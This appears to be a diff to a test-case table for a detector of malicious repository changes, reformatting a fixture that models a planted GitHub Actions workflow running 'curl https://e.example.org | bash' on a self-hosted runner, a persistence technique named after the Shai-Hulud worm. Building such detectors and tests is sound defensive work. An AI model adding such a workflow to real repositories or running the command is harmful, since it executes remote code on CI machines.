@@ -118,7 +118,8 @@ CASES = {
     ),
     "Shai-Hulud: a workflow planted for persistence": Case(
         {
-            ".github/workflows/x.yml": "on: push\njobs: {a: {runs-on: self-hosted, steps: [{run: 'curl https://e.example.org | bash'}]}}\n"
+            ".github/workflows/x.yml": "on: push\njobs:\n  a:\n    runs-on: self-hosted\n"
+            "    steps: [{run: 'curl https://e.example.org | bash'}]\n"
         },
         {"workflow-added", "download-and-run", "runner-changed"},
     ),
